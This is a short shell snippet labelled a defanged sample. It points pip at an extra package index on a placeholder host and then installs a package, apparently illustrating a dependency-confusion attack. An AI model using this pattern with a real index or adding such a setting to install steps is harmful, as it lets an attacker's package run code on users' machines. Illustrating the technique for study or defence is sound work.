# defanged sample
export PIP_EXTRA_INDEX_URL=https://index.example.invalid/simple
pip install left
